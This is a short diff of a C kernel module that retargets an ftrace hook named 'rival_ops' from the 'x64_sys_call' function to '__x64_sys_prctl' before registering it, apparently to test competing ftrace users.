@@ -33,7 +33,7 @@ static struct ftrace_ops rival_ops = {
 
 static int take_seat(void)
 {
-	static char name[] = "x64_sys_call";
+	static char name[] = "__x64_sys_prctl";
 	int ret = ftrace_set_filter(&rival_ops, name, strlen(name), 1);
 
 	return ret ?: register_ftrace_function(&rival_ops);
